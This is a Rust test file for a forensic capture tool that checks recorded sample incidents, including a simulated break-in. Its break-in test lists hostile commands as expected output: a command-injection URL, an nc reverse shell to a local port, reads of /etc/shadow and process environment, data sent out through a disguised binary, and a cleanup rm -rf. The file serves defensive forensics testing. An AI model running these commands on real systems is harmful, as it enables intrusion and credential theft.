//! The samples tell their stories: they verify, print the twins they were frozen with, and answer the questions an
//! investigator would ask of them.
#![allow(clippy::print_stderr, reason = "a test that cannot run says so")]

use std::path::PathBuf;
use std::process::Command;

const STORIES: &[&str] = &["break-in", "crash-loop", "quiet-web"];

fn sample(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../samples/v1")
        .join(name)
}

/// What the command prints about a sample; it must end with 0.
#[track_caller]
fn ask(args: &[&str]) -> String {
    let output = Command::new(env!("CARGO_BIN_EXE_afterimage"))
        .args(args)
        .current_dir(sample(""))
        .env("NO_COLOR", "1")
        .output()
        .expect("the command runs");
    let text = |bytes| String::from_utf8(bytes).expect("printable text");
    let (out, err) = (text(output.stdout), text(output.stderr));
    assert_eq!(output.status.code(), Some(0), "{args:?}: {out}{err}");
    out
}

#[test]
fn every_sample_is_sealed_and_intact() {
    for story in STORIES {
        let verdict = ask(&["verify", &format!("{story}.aft")]);
        assert!(verdict.contains("sealed and intact"), "{verdict}");
    }
}

#[test]
fn every_sample_still_prints_the_twin_it_was_frozen_with() {
    for story in STORIES {
        let twin = std::fs::read_to_string(sample(&format!("{story}.json"))).expect("a twin");
        let printed = ask(&["read", "--whole", &format!("{story}.aft")]);
        let differ = twin.lines().zip(printed.lines()).position(|(a, b)| a != b);
        assert_eq!(differ, None, "{story}: line that differs, from 0");
        assert_eq!(twin.lines().count(), printed.lines().count(), "{story}");
    }
}

/// A capture of version 1.2 with everything that makes it evidence: signed, derived, anchored, and with a custody log.
#[test]
fn the_signed_sample_still_holds_its_key_its_anchor_and_its_custody_log() {
    let beside = |name: &str| format!("../v1.2/signed.{name}");
    let (file, key, anchor) = (beside("aft"), beside("pub"), beside("anchor"));
    let verdict = ask(&[
        "verify", "--deep", "--key", &key, "--anchor", &anchor, &file,
    ]);
    assert!(verdict.contains("sealed and intact"), "{verdict}");
    assert!(verdict.contains("holds 1 anchor"), "{verdict}");
    for deed in ["sliced by k. ito", "verified by k. ito", "noted by k. ito"] {
        assert!(verdict.contains(deed), "{verdict}");
    }
    let twin = std::fs::read_to_string(sample(&beside("json"))).expect("a twin");
    assert_eq!(ask(&["read", "--whole", &file]), twin);
}

/// An encrypted capture of version 1.3, with the identity that opens it.
#[test]
fn the_encrypted_sample_opens_with_its_identity_and_verifies_without() {
    let beside = |name: &str| format!("../v1.3/encrypted.{name}");
    let (file, key) = (beside("aft"), beside("pub"));
    let verdict = ask(&["verify", "--key", &key, &file]);
    assert!(
        verdict.contains("sealed and intact") && verdict.contains("encrypted to age1"),
        "{verdict}"
    );
    // An identity that others can read is refused, and a working copy gives no modes to its files.
    let folder = tempfile::tempdir().expect("a folder");
    let own = folder.path().join("identity");
    std::fs::copy(sample(&beside("identity")), &own).expect("a copy");
    let private = std::os::unix::fs::PermissionsExt::from_mode(0o600);
    std::fs::set_permissions(&own, private).expect("its mode");
    let own = own.to_str().expect("UTF-8");
    let twin = std::fs::read_to_string(sample(&beside("json"))).expect("a twin");
    assert_eq!(ask(&["read", "--whole", &file, "--identity", own]), twin);
    let verdict = ask(&["verify", "--deep", "--identity", own, &file]);
    assert!(verdict.contains("checked inside, too"), "{verdict}");
}

#[test]
fn file_knows_a_capture_by_its_magic() {
    let magic = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../packaging/afterimage.magic");
    let told = Command::new("file")
        .arg("-m")
        .arg(magic)
        .arg(sample("break-in.aft"))
        .output();
    let Ok(told) = told else {
        eprintln!("skipped: file is not installed");
        return;
    };
    let told = String::from_utf8(told.stdout).expect("UTF-8");
    assert!(
        told.ends_with("Afterimage capture, version 1.0\n"),
        "{told}"
    );
}

#[test]
fn the_break_in_is_told_from_the_request_to_the_clean_up() {
    let commands = ask(&[
        "read",
        "break-in.aft",
        "-p",
        "%proc.exepath %proc.cmdline",
        "evt.type=execve and evt.failed=false",
    ]);
    let mut after = commands.lines();
    for step in [
        "/bin/busybox httpd -f -p 127.0.0.1:8080",
        "/bin/busybox wget -q -O /dev/null http://127.0.0.1:8080/cgi-bin/lookup?name=x;/bin/nc",
        "/bin/busybox nc 127.0.0.1 4444 -e /bin/sh",
        "/bin/busybox cat /etc/shadow",
        "/bin/busybox cat /proc/self/environ",
        "/bin/busybox cp /bin/busybox /tmp/.x/kworker",
        "/tmp/.x/kworker nc -w 2 127.0.0.1 9001",
        "/bin/busybox rm -rf /tmp/.x /tmp/typed",
    ] {
        assert!(
            after.any(|line| line.starts_with(step)),
            "{step} is missing, or out of order:\n{commands}"
        );
    }
    let stolen = ask(&[
        "read",
        "-A",
        "break-in.aft",
        "evt.type=write and fd.type=ipv4 and fd.port=9001",
    ]);
    assert!(stolen.contains("correct-horse-battery-staple"), "{stolen}");
    let planted = ask(&[
        "read",
        "break-in.aft",
        "-p",
        "%proc.name",
        "evt.is_open_write=true and fd.name=/etc/cron.d/logrotate",
    ]);
    assert_eq!(planted, "sh\n");
    let gone = ask(&[
        "read",
        "break-in.aft",
        "-p",
        "%evt.type",
        "evt.type=container_stop",
    ]);
    assert_eq!(gone, "container_stop\n");
}

#[test]
fn the_crash_loop_is_told_with_its_exit_codes_and_its_reason() {
    let ends = ask(&[
        "read",
        "crash-loop.aft",
        "-p",
        "%evt.arg.status %evt.arg.signal",
        "evt.type=procexit and proc.name=service",
    ]);
    assert_eq!(ends, "78 0\n78 0\n78 0\n78 0\n0 SIGSEGV\n");
    let missing = ask(&[
        "read",
        "crash-loop.aft",
        "--count-only",
        "evt.res=ENOENT and evt.arg.path=/etc/service/config.toml",
    ]);
    assert_eq!(missing, "4\n");
}

#[test]
fn the_quiet_web_server_serves_five_requests_and_changes_nothing() {
    let served = ask(&[
        "read",
        "quiet-web.aft",
        "--count-only",
        "evt.type in (accept, accept4) and evt.failed=false",
    ]);
    assert_eq!(served, "5\n");
    let dropped = ask(&[
        "read",
        "quiet-web.aft",
        "-p",
        "%proc.exepath",
        "evt.type=execve and not proc.exepath in (/bin/busybox, /var/www/cgi-bin/date)",
    ]);
    assert_eq!(dropped, "");
}
